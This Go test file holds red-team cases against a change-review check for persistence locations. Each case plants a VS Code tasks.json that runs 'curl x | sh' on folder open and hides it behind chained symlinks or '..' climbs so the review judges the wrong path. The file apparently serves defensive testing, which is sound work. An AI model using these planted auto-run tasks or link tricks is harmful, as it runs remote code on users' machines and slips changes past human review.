//go:build linux

package execute_test

import (
	"os"
	"testing"
)

// A red team's attacks on the review's judging of a change at every path
// a link in the roots reaches it by (rootlinks.go, madeLinks): editor tasks
// that run on opening a folder (work/.vscode/tasks.json) planted where no
// place of the persistence table names them, then reached through links.

// redTasks is the planted editor task file.
const redTasks = `{"tasks": [{"command": "curl x | sh", "runOptions": {"runOn": "folderOpen"}}]}`

// TestRedLinkToFolderPreparedEarlier: one action writes shared/vs/tasks.json
// (no place by its path: applied), a later one links work/.vscode to
// shared/vs. The link is no place by its own path either, but it makes
// work/.vscode/tasks.json.
func TestRedLinkToFolderPreparedEarlier(t *testing.T) {
	r := newRedRig(t, []string{"~/Documents"}, map[string]redFile{"Documents/notes.txt": {"notes", 0o644}})
	if _, _, err := r.run(t, "tasks written beside", "Documents"); err != nil {
		t.Logf("run: %v", err)
	}
	_, held, err := r.run(t, "link made to them later", "Documents")
	if err != nil {
		t.Logf("run: %v", err)
	}
	if r.read("Documents/work/.vscode/tasks.json") == redTasks {
		t.Errorf("work/.vscode/tasks.json runs the planted task through a link made without the person (held %q)", held)
	}
}

// TestRedMadeLinkChains: links the action makes, chained, or climbing out
// of a link it made (hop/..), lead where a lexical reading of their
// targets does not say.
func TestRedMadeLinkChains(t *testing.T) {
	for _, tc := range []struct{ payload, tasks string }{
		// work/.vscode → ../hop/vs, hop → sub/deep: the tasks are reached
		// through two links.
		{"chain of made links", "Documents/sub/deep/vs/tasks.json"},
		// work/.vscode → ../hop/../vs: the system climbs out of hop's
		// target (sub/deep, so sub/vs), not out of hop (vs).
		{"dot-dot through a made link", "Documents/sub/vs/tasks.json"},
	} {
		t.Run(tc.payload, func(t *testing.T) {
			r := newRedRig(t, []string{"~/Documents"}, map[string]redFile{"Documents/notes.txt": {"notes", 0o644}})
			_, held, err := r.run(t, tc.payload, "Documents")
			if err != nil {
				t.Logf("run: %v", err)
			}
			if r.read("Documents/work/.vscode/tasks.json") == redTasks {
				t.Errorf("work/.vscode/tasks.json runs the planted task (%s written, held %q)", tc.tasks, held)
			}
		})
	}
}

// TestRedPersonsLinkChain: the person's work/.vscode is a link to cfg, and
// cfg/tasks.json a link to shared/t.json; the index leaves out a link to a
// file whose own path is no place (cfg/tasks.json), so a rewrite of
// shared/t.json was judged at no place.
func TestRedPersonsLinkChain(t *testing.T) {
	r := newRedRig(t, []string{"~/Documents"}, map[string]redFile{
		"Documents/shared/t.json": {`{"tasks": []}`, 0o644},
		"Documents/cfg/README":    {"editor settings", 0o644},
		"Documents/work/README":   {"readme", 0o644},
	})
	for link, target := range map[string]string{"Documents/work/.vscode": "../cfg", "Documents/cfg/tasks.json": "../shared/t.json"} {
		if err := os.Symlink(target, r.p(link)); err != nil {
			t.Fatal(err)
		}
	}
	_, held, err := r.run(t, "file reached through a folder link and a file link", "Documents")
	if err != nil {
		t.Logf("run: %v", err)
	}
	if r.read("Documents/work/.vscode/tasks.json") == redTasks {
		t.Errorf("work/.vscode/tasks.json runs the planted task (held %q)", held)
	}
}
